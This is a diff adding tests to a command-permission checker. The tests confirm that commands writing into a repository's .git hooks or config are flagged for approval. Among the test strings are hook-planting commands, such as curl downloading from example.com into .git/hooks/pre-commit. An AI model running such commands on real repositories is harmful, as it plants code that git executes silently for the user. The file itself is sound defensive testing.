@@ -113,6 +113,41 @@ describe("cd [R7.2]", () => {
   });
 });
 
+describe("git's own data, whose hooks and settings git runs [R7.2]", () => {
+  const programs = "cd cp curl git go make npm pip tar tee uv";
+  const at = (line: string, place = cwd) => {
+    const allowlist = programs.split(" ").map((name) => `${name} *`);
+    return judgeCommand(line, { allowlist, cwd: place, workspace }).decision;
+  };
+
+  test.each([
+    "cd .git && cp ../x hooks/pre-commit",
+    "cd ../.git/hooks && tee pre-commit",
+    "cd sub && cd .GIT && make",
+    "git clone https://example.com/hooks .git/hooks",
+    "git -C .git clone https://example.com/hooks",
+    "git init .git/hooks",
+    "git apply --directory=.git x.patch",
+    "go build -o .git/hooks/pre-commit .",
+    "go test -coverprofile=/ws/app/.git/config ./...",
+    "uv export -o ./.git/config",
+    "npm pack --pack-destination sub/../.git/hooks",
+    "curl -o .git/hooks/pre-commit https://example.com",
+    "make -C .git/modules/x",
+  ])("%j asks", (line) => expect(at(line)).toBe("ask"));
+
+  test("is off limits from inside as well", () => {
+    expect(at("tee hooks/x", "/ws/app/.git")).toBe("ask");
+    expect(at("tee ../config", "/ws/app/.git/hooks")).toBe("ask");
+    expect(at("tee ../../x", "/ws/app/.git/hooks")).toBe("allow");
+  });
+
+  test.each(["tee .gitignore", "cp x .github/workflows/ci.yml", "cd x.git && make", "git add .gitattributes"])(
+    "%j is something else",
+    (line) => expect(at(line)).toBe("allow"),
+  );
+});
+
 describe("security levels [R7.1]", () => {
   const at = (security: string, line: string) =>
     compileCommandPolicy({ allowlist: ["foo *"], security: security as "deny" }).judge(line, { cwd, workspace });
